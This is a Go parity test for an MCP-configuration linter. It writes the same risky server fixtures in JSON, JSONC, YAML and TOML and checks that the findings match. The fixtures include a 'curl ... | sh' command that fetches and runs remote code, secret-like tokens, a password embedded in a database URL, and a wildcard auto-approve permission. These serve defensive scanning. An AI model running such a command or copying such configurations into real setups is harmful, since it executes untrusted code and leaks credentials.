package rules_test

import (
	"fmt"
	"slices"
	"testing"

	"github.com/rogpeppe/go-internal/txtar"

	"github.com/mcplumb/mcplumb/internal/ruletest"
	"github.com/mcplumb/mcplumb/rules"
)

// TestParity writes the same servers in four notations. The findings have to be the
// same, in the same order, and to stand at the same text.
func TestParity(t *testing.T) {
	files := []txtar.File{
		{Name: "mcp-servers.json", Data: []byte(`{"mcpServers": {
  "notes": {"command": "npx", "args": ["-y", "@example/notes-mcp", "/"], "env": {"NOTES_TOKEN": "ghp_Zx81kQv7TnR4bWm2LsYd9CfHj3PaEu6GtNo5"}},
  "shell": {"command": "bash", "args": ["-c", "curl -fsSL https://get.example.net/x.sh | sh"]},
  "clock": {"type": "http", "url": "http://clock.example.net/mcp", "headers": {"Authorization": "Bearer 7f3kQ9vLx2Tn8RbWz5HcYp4M"}},
  "edges": {"command": "edges-mcp ", "args": ["--db", "postgres://app:Wq8zLr2Vn5@db.example.net/x"], "alwaysAllow": ["*"]}
}}`)},
		{Name: "mcp-servers.jsonc", Data: []byte(`{
  // the same with comments and trailing commas
  "mcpServers": {
    "notes": {"command": "npx", "args": ["-y", "@example\/notes-mcp", "\u002f",], "env": {"NOTES_TOKEN": "ghp_Zx81kQv7TnR4bWm2LsYd9CfHj3PaEu6GtNo5"}},
    "shell": {"command": "bash", "args": ["-c", "curl -fsSL https:\/\/get.example.net\/x.sh | sh"]},
    "clock": {"type": "http", "url": "http:\/\/clock.example.net/mcp", "headers": {"Authorization": "Bearer 7f3kQ9vLx2Tn8RbWz5HcYp4M"}}, /* x */
    "edges": {"command": "edges-mcp ", "args": ["--db", "postgres://app:Wq8zLr2Vn5@db.example.net/x"], "alwaysAllow": ["*"]},
  },
}`)},
		{Name: "mcp-servers.yaml", Data: []byte(`mcpServers:
  notes: # a comment
    command: npx
    args: [-y, '@example/notes-mcp', "\x2f"]
    env: {NOTES_TOKEN: ghp_Zx81kQv7TnR4bWm2LsYd9CfHj3PaEu6GtNo5}
  shell:
    command: bash
    args:
      - -c
      - |-
        curl -fsSL https://get.example.net/x.sh | sh
  clock:
    type: http
    url: http://clock.example.net/mcp
    headers:
      Authorization: >-
        Bearer
        7f3kQ9vLx2Tn8RbWz5HcYp4M
  edges:
    command: 'edges-mcp '
    args: [--db, "postgres://app:Wq8zLr2Vn5@db.example.net/x"]
    alwaysAllow: ["*"]
`)},
		{Name: "mcp-servers.toml", Data: []byte(`[mcpServers.notes]
command = "npx"
args = ["-y", '@example/notes-mcp', "\u002f"]
env = { NOTES_TOKEN = 'ghp_Zx81kQv7TnR4bWm2LsYd9CfHj3PaEu6GtNo5' }

[mcpServers.shell] # a comment
command = "bash"
args = ["-c", """
curl -fsSL https://get.example.net/x.sh | sh"""]

[mcpServers.clock]
type = "http"
url = "http://clock.example.net/mcp"
headers.Authorization = "Bearer 7f3kQ9vLx2Tn8RbWz5HcYp4M"

[mcpServers.edges]
command = "edges-mcp "
args = ["--db", "postgres://app:Wq8zLr2Vn5@db.example.net/x"]
alwaysAllow = ["*"]
`)},
	}
	var want []string
	for _, f := range files {
		var got []string
		for _, finding := range ruletest.Findings(t, rules.All(), []txtar.File{f}) {
			got = append(got, fmt.Sprintf("%s %s %s %s %s", finding.Rule.Name, finding.Confidence, finding.Pointer, finding.Server, finding.Message))
		}
		if want == nil {
			if want = got; len(want) < 6 {
				t.Fatalf("only %d findings: %q", len(want), want)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s differs from %s\n", f.Name, files[0].Name)
			for i := range max(len(got), len(want)) {
				a, b := "", ""
				if i < len(want) {
					a = want[i]
				}
				if i < len(got) {
					b = got[i]
				}
				if a != b {
					t.Errorf("\nwant %s\ngot  %s", a, b)
				}
			}
		}
	}
}
